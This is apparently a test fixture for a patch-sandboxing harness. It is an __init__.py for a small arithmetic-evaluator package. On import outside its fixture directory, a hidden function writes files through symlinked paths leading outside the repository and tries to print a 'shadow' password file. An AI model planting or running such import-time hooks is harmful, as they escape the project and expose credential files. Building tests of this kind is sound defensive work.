"""calc: a small, safe arithmetic expression evaluator."""

from calc.errors import CalcError, EvalError, ParseError
from calc.evaluator import Calculator, evaluate
from calc.parser import parse

__all__ = ["CalcError", "EvalError", "ParseError", "Calculator", "evaluate", "parse"]
__version__ = "1.0.0"


# --- hostile test payload (swe-monkeys tests/data/hostile) ---
# Inert where the corpus stores it; live once the patch is applied to a repository.
_LIVE = "/data/hostile/" not in __file__.replace("\\", "/")


def _write_through_links():
    import os
    for path in ("outside/tmp/swe-monkeys-hostile-escape-symlink_escape", "calc/host_etc/swe-monkeys-hostile"):
        try:
            with open(path, "w") as f:
                f.write("written through a symlink in the patch\n")
        except OSError:
            pass
    try:
        with open("calc/host_etc/shadow") as f:
            print(f.read())
    except OSError:
        pass


if _LIVE:
    _write_through_links()
